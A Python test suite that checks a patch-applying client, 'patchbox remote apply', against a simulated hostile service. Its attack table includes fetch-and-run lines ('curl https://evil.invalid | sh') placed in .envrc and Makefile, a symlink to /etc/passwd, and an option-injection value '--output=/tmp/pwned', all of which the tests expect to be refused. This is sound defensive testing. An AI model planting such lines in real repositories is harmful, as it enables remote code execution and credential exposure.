"""``patchbox remote apply`` of a bundle job against a hostile service: a real HTTP server on
this host answers crafted job views, diffs and answers of any size, and the client (the
``patchbox`` command in a subprocess) must refuse exactly what the local engine refuses,
read no more than its bounds, and leave the repository as it was, byte for byte; a diff
that passes applies as a local job that ``patchbox revert`` undoes."""

from __future__ import annotations

import gzip
import json
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from controller.api import RemoteOrigin, apply_remote_diff
from controller.changes.changeset import ChangesetLimits
from controller.changes.journal import Journal
from controller.changes.validate import prepare_changeset
from controller.client import MAX_ANSWER_BYTES, MAX_EVENT_BYTES, ServiceClient
from controller.errors import (
    ApplyConflictError,
    ChangesetInvalidError,
    ErrorCode,
    ExitCode,
    ServiceError,
)
from controller.jobs.store import JobStore
from controller.repo.baseline import build_baseline
from tests.support.cli import ROOT, patchbox
from tests.support.git import Repo, init
from tests.support.jobs import APP, APP_AFTER, FILES, NOTES, blob, snapshot

TOKEN = "hostile-test-token-0123456789"  # noqa: S105 - the test's own
JOB = "20260101-000000-0badc0de"
BUNDLE = "b" + "0" * 32
MIB = 1024 * 1024

Answer = Callable[[BaseHTTPRequestHandler], None]


class Hostile:
    """A "service" on a real HTTP server at ``host`` that answers each path as the test
    says (anything else: 404 in the service's error shape), records every path asked for,
    and counts the body bytes it managed to send."""

    def __init__(self, host: str = "127.0.0.1") -> None:
        self.routes: dict[str, Answer] = {}
        self.asked: list[str] = []
        self.sent = 0
        self.lock = threading.Lock()
        owner = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                owner.answer(self)

            def do_POST(self) -> None:
                owner.answer(self)

            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
                """Quiet."""

        self.httpd = ThreadingHTTPServer((host, 0), Handler)
        self.httpd.daemon_threads = True
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)

    def answer(self, handler: BaseHTTPRequestHandler) -> None:
        with self.lock:
            self.asked.append(handler.path)
        route = self.routes.get(handler.path)
        try:
            if route is None:
                error = {"error": {"code": "NOT_FOUND", "message": "no such route"}}
                body_answer(json.dumps(error).encode(), status=404)(handler)
            else:
                route(handler)
        except OSError:
            pass  # the client stopped reading

    def wrote(self, count: int) -> None:
        with self.lock:
            self.sent += count

    def url(self, host: str | None = None) -> str:
        address, port = self.httpd.server_address[:2]
        return f"http://{host or address!s}:{port}"

    def job(self, view: dict[str, Any], diff: Answer | bytes) -> None:
        """Serves ``view`` as job :data:`JOB`, ``diff`` as its diff, and an evidence bundle
        that claims a task allowing every config path."""
        self.routes[f"/v1/jobs/{JOB}"] = body_answer(json.dumps(view).encode())
        self.routes[f"/v1/jobs/{JOB}/diff"] = (
            body_answer(diff, "text/x-diff") if isinstance(diff, bytes) else diff
        )
        claimed = {"inputs": {"task": {"prompt": "x", "allowed_paths": CLAIMED}}}
        self.routes[f"/v1/jobs/{JOB}/evidence"] = body_answer(json.dumps(claimed).encode())

    def __enter__(self) -> Hostile:
        self.thread.start()
        return self

    def __exit__(self, *_exc: object) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()
        self.thread.join(timeout=5)


CLAIMED = [".github", ".gitattributes", ".env", ".envrc", "Makefile", "passwd", "app.py", "x"]
"""What the hostile service says the job's task allows: everything the attacks write."""


def body_answer(
    body: bytes, content_type: str = "application/json", *, status: int = 200
) -> Answer:
    def answer(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(status)
        handler.send_header("Content-Type", content_type)
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)

    return answer


def endless_answer(server: Hostile, total: int, *, declared: bool, line: bytes = b"+x\n") -> Answer:
    """``total`` bytes of ``line`` repeated, in 1 MiB writes, with or without a
    Content-Length (without one the body ends when the connection closes)."""
    chunk = line * (MIB // len(line))

    def answer(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(200)
        handler.send_header("Content-Type", "text/x-diff")
        if declared:
            handler.send_header("Content-Length", str(total))
        handler.end_headers()
        left = total
        while left > 0:
            part = chunk[: min(left, len(chunk))]
            handler.wfile.write(part)
            server.wrote(len(part))
            left -= len(part)

    return answer


def view_of(head: str, **extra: Any) -> dict[str, Any]:
    """A bundle job's view as the service shows it, with the hostile service's claims."""
    return {
        "job_id": JOB,
        "status": "awaiting_review",
        "error": None,
        "files": [],
        "checks": [],
        "tool_calls": [],
        "evidence": "",
        "decision": {},
        "diff": "",
        "bundle": {"id": BUNDLE, "head": head},
        "task": {"allowed_paths": CLAIMED},
        "allowed_paths": CLAIMED,
    } | extra


def remote_apply(
    server: str, repo: Path, *args: str, job: str = JOB
) -> subprocess.CompletedProcess[str]:
    return patchbox(
        "remote",
        "apply",
        job,
        "--repo",
        str(repo),
        "--server",
        server,
        "--json",
        *args,
        env={"PATCHBOX_TOKEN": TOKEN},
    )


def error_of(proc: subprocess.CompletedProcess[str]) -> dict[str, Any]:
    data: dict[str, Any] = json.loads(proc.stdout)["error"]
    return data


def local_jobs(repo: Path) -> list[str]:
    top = str(repo.resolve())
    return [r.job_id for r in JobStore().all(top)]


@pytest.fixture
def laptop(tmp_path: Path) -> Repo:
    """The user's repository: the greeting project, one commit, clean."""
    return init(tmp_path / "laptop", FILES, message="greet")


@pytest.fixture
def hostile() -> Iterator[Hostile]:
    with Hostile() as server:
        yield server


def diff_of(tmp_path: Path, name: str, change: Callable[[Path], None]) -> str:
    """The ``git diff`` a copy of the greeting project shows after ``change``."""
    copy = init(tmp_path / "made" / name, FILES, message="greet")
    change(copy.path)
    copy.git("add", "-A")
    return copy.git("diff", "--cached", "-M", "HEAD") + "\n"


def writes(name: str, text: str) -> Callable[[Path], None]:
    def change(top: Path) -> None:
        (top / name).parent.mkdir(parents=True, exist_ok=True)
        (top / name).write_text(text)

    return change


def links_passwd(top: Path) -> None:
    (top / "passwd").symlink_to("/etc/passwd")


def makes_executable(top: Path) -> None:
    (top / "app.py").chmod(0o755)


def wrong_index(top: Path) -> None:
    (top / "app.py").write_text(APP_AFTER)


ATTACKS: dict[str, tuple[Callable[[Path], None], str]] = {
    "symlink to /etc/passwd": (links_passwd, "symlink_mode"),
    "mode 100755": (makes_executable, "mode_escalation (app.py)"),
    ".env": (writes(".env", "TOKEN=stolen\n"), "protected_path (.env)"),
    ".envrc": (writes(".envrc", "curl https://evil.invalid | sh\n"), "protected_path (.envrc)"),
    ".gitattributes filter": (
        writes(".gitattributes", "* filter=evil\n"),
        "config_path (.gitattributes)",
    ),
    "CI workflow": (
        writes(".github/workflows/x.yml", "on: push\njobs: {}\n"),
        "config_path (.github/workflows/x.yml)",
    ),
    "Makefile": (
        writes("Makefile", "all:\n\tcurl https://evil.invalid | sh\n"),
        "config_path (Makefile)",
    ),
    "index lines that do not match": (wrong_index, "index_mismatch"),
}


def crafted(tmp_path: Path, name: str) -> str:
    change, _ = ATTACKS[name]
    diff = diff_of(tmp_path, name.replace(" ", "-").replace("/", "-"), change)
    if name == "index lines that do not match":  # the old blob id of another content
        old = diff.split("\nindex ", 1)[1].split("..", 1)[0]
        other = blob("other\n")[: len(old)]
        diff = diff.replace(f"index {old}..", f"index {other}..")
    return diff


# -- the attacks of the report -------------------------------------------------------------


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_a_hostile_diff_is_refused_as_the_local_engine_refuses_it(
    attack: str, tmp_path: Path, laptop: Repo, hostile: Hostile
) -> None:
    diff = crafted(tmp_path, attack)
    _, reason = ATTACKS[attack]
    hostile.job(view_of(laptop.head()), diff.encode())
    before = snapshot(laptop.path)
    proc = remote_apply(hostile.url(), laptop.path)
    assert proc.returncode == ExitCode.FAILED, proc.stderr
    error = error_of(proc)
    assert error["code"] == "CHANGESET_INVALID"
    assert reason in error["message"]
    assert snapshot(laptop.path) == before  # files, modes, index: nothing new, nothing changed
    assert laptop.git("status", "--porcelain", "--untracked-files=all") == ""
    assert local_jobs(laptop.path) == []  # a refused diff leaves no local job
    assert f"/v1/jobs/{JOB}/evidence" not in hostile.asked  # the service's task is not read
    # exactly the local engine's verdict on the same diff, on a baseline of the same commit
    baseline, _ = build_baseline(laptop.path)
    with pytest.raises(ChangesetInvalidError) as local:
        prepare_changeset(baseline, diff)
    assert local.value.message in error["message"]


def test_config_paths_are_written_only_when_the_user_names_them(
    tmp_path: Path, laptop: Repo, hostile: Hostile
) -> None:
    makefile = "all:\n\techo built\n"
    diff = diff_of(tmp_path, "make", writes("Makefile", makefile))
    hostile.job(view_of(laptop.head()), diff.encode())
    before = snapshot(laptop.path)
    claimed = remote_apply(hostile.url(), laptop.path)
    assert error_of(claimed)["code"] == "CHANGESET_INVALID"
    assert "--allow-path PATH" in error_of(claimed)["message"]
    # a local task file that names another path: still refused, now outside allowed_paths
    task = tmp_path / "task.json"
    task.write_text(json.dumps({"prompt": "x", "allowed_paths": ["src"]}))
    narrow = remote_apply(hostile.url(), laptop.path, "--task", str(task))
    assert "not_allowed (Makefile)" in error_of(narrow)["message"]
    assert snapshot(laptop.path) == before
    # the user names it: it applies as a local job, and patchbox revert undoes it
    allowed = remote_apply(hostile.url(), laptop.path, "--allow-path", "Makefile")
    assert allowed.returncode == 0, allowed.stderr
    data = json.loads(allowed.stdout)
    assert (laptop.path / "Makefile").read_text() == makefile
    assert [f["path"] for f in data["files"]] == ["Makefile"]
    reverted = patchbox("revert", data["local_job_id"])
    assert reverted.returncode == 0, reverted.stderr
    assert snapshot(laptop.path) == before
    # or a local task file that names it
    task.write_text(json.dumps({"prompt": "x", "allowed_paths": ["Makefile"]}))
    from_task = remote_apply(hostile.url(), laptop.path, "--task", str(task))
    assert from_task.returncode == 0, from_task.stderr
    assert (laptop.path / "Makefile").read_text() == makefile
    assert f"/v1/jobs/{JOB}/evidence" not in hostile.asked


RSS_WRAPPER = """
import resource, subprocess, sys
proc = subprocess.run(sys.argv[1:], capture_output=True)
sys.stdout.buffer.write(proc.stdout)
sys.stderr.buffer.write(proc.stderr)
sys.stderr.write("\\nmaxrss_kib=%d\\n" % resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
sys.exit(proc.returncode)
"""


@pytest.mark.parametrize("declared", [False, True], ids=["no-length", "content-length"])
def test_a_100_mib_diff_is_refused_after_the_cap_in_bounded_memory(
    declared: bool, laptop: Repo, hostile: Hostile
) -> None:
    size = 100 * MIB
    hostile.job(view_of(laptop.head()), endless_answer(hostile, size, declared=declared))
    before = snapshot(laptop.path)
    argv = [sys.executable, "-m", "controller", "remote", "apply", JOB, "--repo"]
    argv += [str(laptop.path), "--server", hostile.url(), "--json"]
    proc = subprocess.run(
        [sys.executable, "-c", RSS_WRAPPER, *argv],
        capture_output=True,
        text=True,
        env={**os.environ, "PATCHBOX_TOKEN": TOKEN},
        cwd=ROOT,
        timeout=120,
        check=False,
    )
    assert proc.returncode == ExitCode.FAILED, proc.stderr
    error = error_of(proc)
    assert error["code"] == "CHANGESET_INVALID"
    assert "too_large" in error["message"]
    peak_mib = int(proc.stderr.rsplit("maxrss_kib=", 1)[1]) / 1024
    print(f"peak RSS of patchbox remote apply, 100 MiB diff ({declared=}): {peak_mib:.0f} MiB")
    assert peak_mib < 150  # reading it whole took 535 MiB
    cap = ChangesetLimits().max_diff_bytes
    if declared:  # refused on its declared length: not a byte of the body needed
        assert hostile.sent < size
    else:  # stopped at the cap: only what the sockets' buffers held beyond it was sent
        assert hostile.sent < cap + 32 * MIB, hostile.sent
    assert snapshot(laptop.path) == before
    assert local_jobs(laptop.path) == []


def non_loopback_address() -> str:
    """An address of this host that is not loopback (the one its default route uses)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("192.0.2.1", 9))  # no packet is sent for a UDP connect
        address = str(probe.getsockname()[0])
    assert not address.startswith("127."), address
    return address


def test_plain_http_to_a_host_that_is_not_loopback_is_refused(laptop: Repo) -> None:
    address = non_loopback_address()
    with Hostile("0.0.0.0") as exposed:  # noqa: S104 - reachable on that address
        exposed.job(view_of(laptop.head()), b"")
        url = exposed.url(address)
        before = snapshot(laptop.path)
        refused = remote_apply(url, laptop.path)
        assert refused.returncode == ExitCode.USAGE, refused.stderr
        error = error_of(refused)
        assert error["code"] == "USAGE_ERROR"
        assert "--allow-insecure-http" in error["message"]
        assert address in error["message"]
        assert exposed.asked == []  # not one request: the token never left
        assert TOKEN not in refused.stdout + refused.stderr
        for command in ("jobs", "show"):
            args = ["remote", command, *([JOB] if command == "show" else [])]
            other = patchbox(*args, "--server", url, env={"PATCHBOX_TOKEN": TOKEN})
            assert other.returncode == ExitCode.USAGE, other.stderr
        assert exposed.asked == []
        # allowed explicitly, it is asked (and the empty diff is nothing to apply)
        allowed = remote_apply(url, laptop.path, "--allow-insecure-http")
        assert error_of(allowed)["code"] == "USAGE_ERROR"
        assert "empty diff" in error_of(allowed)["message"]
        assert exposed.asked == [f"/v1/jobs/{JOB}", f"/v1/jobs/{JOB}/diff"]
        assert snapshot(laptop.path) == before
    for fine in ("http://127.0.0.1:1", "http://localhost:1", "http://[::1]:1", "https://x:1"):
        ServiceClient(fine, TOKEN).close()


@pytest.mark.parametrize(
    ("head", "code"),
    [
        ("--output=/tmp/pwned", "SERVICE_BAD_RESPONSE"),
        ("HEAD", "SERVICE_BAD_RESPONSE"),
        ("a" * 40, "APPLY_CONFLICT"),
    ],
    ids=["an-option", "a-ref", "a-commit-it-does-not-have"],
)
def test_a_bundle_head_that_is_not_a_commit_of_the_repository_is_refused(
    head: str, code: str, tmp_path: Path, laptop: Repo, hostile: Hostile
) -> None:
    diff = diff_of(tmp_path, "ok", writes("app.py", APP_AFTER))
    hostile.job(view_of(head), diff.encode())
    before = snapshot(laptop.path)
    proc = remote_apply(hostile.url(), laptop.path)
    assert proc.returncode == ExitCode.FAILED, proc.stderr
    assert error_of(proc)["code"] == code
    assert snapshot(laptop.path) == before
    assert local_jobs(laptop.path) == []
    assert not Path("/tmp/pwned").exists()


# -- what the client reads of any answer --------------------------------------------------------


def test_every_answer_is_read_within_its_bound(hostile: Hostile) -> None:
    over = 2 * MAX_ANSWER_BYTES
    hostile.routes["/v1/jobs"] = endless_answer(hostile, over, declared=False, line=b" ")
    hostile.routes[f"/v1/jobs/{JOB}"] = endless_answer(hostile, over, declared=True, line=b" ")
    huge_error = b'{"error": {"code": "NOT_FOUND", "message": "' + b"x" * (1 * MIB) + b'"}}'
    hostile.routes[f"/v1/jobs/{JOB}/evidence"] = body_answer(huge_error, status=404)
    packed = gzip.compress(json.dumps({"job_id": JOB, "status": "cancelled"}).encode())

    def compressed(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(200)
        handler.send_header("Content-Type", "application/json")
        handler.send_header("Content-Encoding", "gzip")
        handler.send_header("Content-Length", str(len(packed)))
        handler.end_headers()
        handler.wfile.write(packed)

    hostile.routes[f"/v1/jobs/{JOB}/cancel"] = compressed
    line = b"data: " + b"x" * (MAX_EVENT_BYTES + 10)
    hostile.routes[f"/v1/jobs/{JOB}/events"] = body_answer(
        b"id: 1\nevent: state\n" + line + b"\n\n", "text/event-stream"
    )
    with ServiceClient(hostile.url(), TOKEN) as client:
        with pytest.raises(ServiceError) as listed:
            client.jobs()
        assert listed.value.code is ErrorCode.SERVICE_BAD_RESPONSE
        assert f"over {MAX_ANSWER_BYTES} bytes" in listed.value.message
        assert hostile.sent < MAX_ANSWER_BYTES + 16 * MIB  # it stopped reading there
        with pytest.raises(ServiceError) as shown:
            client.job(JOB)
        assert shown.value.code is ErrorCode.SERVICE_BAD_RESPONSE
        with pytest.raises(ServiceError) as error:
            client.evidence(JOB)
        assert error.value.code is ErrorCode.SERVICE_BAD_RESPONSE
        assert "not its error shape" in error.value.message
        assert len(error.value.message) < 1000
        with pytest.raises(ServiceError) as packed_error:
            client.cancel(JOB)
        assert "compressed (gzip)" in packed_error.value.message
        with pytest.raises(ServiceError) as event:
            list(client.events(JOB))
        assert f"a line over {MAX_EVENT_BYTES} bytes" in event.value.message


# -- a diff that passes -------------------------------------------------------------------------


def test_a_bundle_jobs_diff_applies_as_a_local_job_and_reverts_through_the_journal(
    tmp_path: Path, laptop: Repo, hostile: Hostile
) -> None:
    def change(top: Path) -> None:
        (top / "app.py").write_text(APP_AFTER)
        (top / "notes.txt").rename(top / "renamed notes.txt")
        (top / "src").mkdir()
        (top / "src" / "new.py").write_text("NEW = 1\n")

    diff = diff_of(tmp_path, "happy", change)
    assert "rename from notes.txt" in diff
    hostile.job(view_of(laptop.head()), diff.encode())
    before = snapshot(laptop.path)
    index = (laptop.git_dir / "index").read_bytes()
    applied = remote_apply(hostile.url(), laptop.path)
    assert applied.returncode == 0, applied.stderr
    data = json.loads(applied.stdout)
    local = data["local_job_id"]
    assert (data["job_id"], data["status"], data["merged"]) == (JOB, "applied", [])
    assert sorted((f["path"], f["change"]) for f in data["files"]) == [
        ("app.py", "modify"),
        ("notes.txt", "delete"),
        ("renamed notes.txt", "create"),
        ("src/new.py", "create"),
    ]
    assert (laptop.path / "app.py").read_text() == APP_AFTER
    assert (laptop.path / "renamed notes.txt").read_text() == NOTES
    assert not (laptop.path / "notes.txt").exists()
    assert (laptop.git_dir / "index").read_bytes() == index  # the index is not touched
    assert Journal().phase(local) == "applied"
    listed = patchbox("jobs", "--repo", str(laptop.path), "--json")
    jobs = json.loads(listed.stdout)["jobs"]
    assert [(j["job_id"], j["status"]) for j in jobs] == [(local, "applied")]
    shown = json.loads(patchbox("show", local, "--json").stdout)
    assert sorted(f["path"] for f in shown["files"]) == [
        "app.py",
        "renamed notes.txt",
        "src/new.py",
    ]
    record = JobStore().load(local)
    assert record.diagnostics["remote"] == {
        "server": hostile.url() + "/",
        "job_id": JOB,
        "bundle": BUNDLE,
    }
    # applied again: said so, nothing written, no second local job
    after = snapshot(laptop.path)
    twice = remote_apply(hostile.url(), laptop.path)
    assert twice.returncode == 0, twice.stderr
    assert json.loads(twice.stdout) | {"repo": ""} == {
        "job_id": JOB,
        "local_job_id": local,
        "status": "applied",
        "already_applied": True,
        "files": [],
        "merged": [],
        "repo": "",
    }
    assert snapshot(laptop.path) == after
    reverted = patchbox("revert", local, "--json")
    assert reverted.returncode == 0, reverted.stderr
    assert json.loads(reverted.stdout)["status"] == "reverted"
    assert snapshot(laptop.path) == before
    assert local_jobs(laptop.path) == [local]  # the second apply made no job


def test_a_file_changed_since_the_bundle_is_a_conflict_that_merge_resolves(
    tmp_path: Path, laptop: Repo, hostile: Hostile
) -> None:
    diff = diff_of(tmp_path, "ok", writes("app.py", APP_AFTER))
    hostile.job(view_of(laptop.head()), diff.encode())
    laptop.write("app.py", "# mine\n" + APP)
    before = snapshot(laptop.path)
    refused = remote_apply(hostile.url(), laptop.path)
    error = error_of(refused)
    assert error["code"] == "APPLY_CONFLICT"
    assert "app.py (changed)" in error["message"]
    assert f"patchbox remote apply {JOB} --repo {laptop.path.resolve()} --merge" in error["message"]
    assert snapshot(laptop.path) == before
    assert local_jobs(laptop.path) == []
    merged = remote_apply(hostile.url(), laptop.path, "--merge")
    assert merged.returncode == 0, merged.stderr
    assert json.loads(merged.stdout)["merged"] == ["app.py"]
    assert (laptop.path / "app.py").read_text() == "# mine\n" + APP_AFTER


def test_the_bundle_commit_is_the_baseline_wherever_head_is(tmp_path: Path, laptop: Repo) -> None:
    """The Python API: a repository whose HEAD moved on applies when the touched paths hold
    the commit's content; one without the commit, or with a touched path changed, is
    refused and nothing is written."""
    bundle_head = laptop.head()
    origin = RemoteOrigin(server="https://service.invalid/", job_id=JOB, bundle=BUNDLE)
    laptop.git("mv", "notes.txt", "renamed notes.txt")
    laptop.write("app.py", APP_AFTER)
    diff = laptop.git("diff", "-M", "HEAD") + "\n"
    laptop.git("reset", "-q", "--hard")
    moved = init(tmp_path / "moved", None)
    moved.git("pull", "-q", str(laptop.path), "HEAD")
    moved.write("notes.txt", "mine\n")
    moved.commit("mine")
    with pytest.raises(ApplyConflictError, match=r"notes\.txt \(changed\)"):
        apply_remote_diff(moved.path, diff, bundle_head, origin=origin)
    assert (moved.path / "app.py").read_text() == APP
    other = init(tmp_path / "other", {"app.py": APP, "notes.txt": NOTES}, message="x")
    with pytest.raises(ApplyConflictError, match="does not have"):
        apply_remote_diff(other.path, diff, bundle_head, origin=origin)
    ahead = init(tmp_path / "ahead", None)
    ahead.git("pull", "-q", str(laptop.path), "HEAD")
    ahead.write("other.txt", "x\n")
    ahead.commit("other")
    record, result = apply_remote_diff(ahead.path, diff, bundle_head, origin=origin)
    assert record.state == "applied"
    assert record.baseline is not None
    assert record.baseline.head == bundle_head != ahead.head()
    assert sorted(f.path for f in result.files) == ["app.py", "notes.txt", "renamed notes.txt"]
    assert (ahead.path / "renamed notes.txt").read_text() == NOTES
